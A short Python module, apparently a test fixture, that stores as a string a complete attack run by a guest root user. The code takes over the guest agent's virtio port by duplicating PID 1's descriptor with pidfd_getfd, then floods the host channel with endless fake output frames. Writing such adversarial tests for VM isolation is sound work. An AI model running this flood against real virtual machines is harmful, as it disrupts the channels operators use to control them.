"""What a guest's root does to flood the agent's channel from within."""

from __future__ import annotations

from typing import Final

FLOOD: Final = """
import ctypes, os, select, struct
# A port is opened once, and the agent, which is the first process, has it. Root takes a duplicate.
PIDFD_GETFD = 438
libc = ctypes.CDLL(None, use_errno=True)
agent = os.pidfd_open(1)
(number,) = [fd for fd in os.listdir("/proc/1/fd") if "/dev/vport" in os.readlink("/proc/1/fd/" + fd)]
port = libc.syscall(PIDFD_GETFD, agent, int(number), 0)
assert port >= 0, os.strerror(ctypes.get_errno())
# Output of nothing, of a command that ended long ago.
frames = struct.pack("<BII", 0x11, 1, 0) * 3640
while True:
    try:
        os.write(port, frames)
    except BlockingIOError:
        select.select([], [port], [])
"""
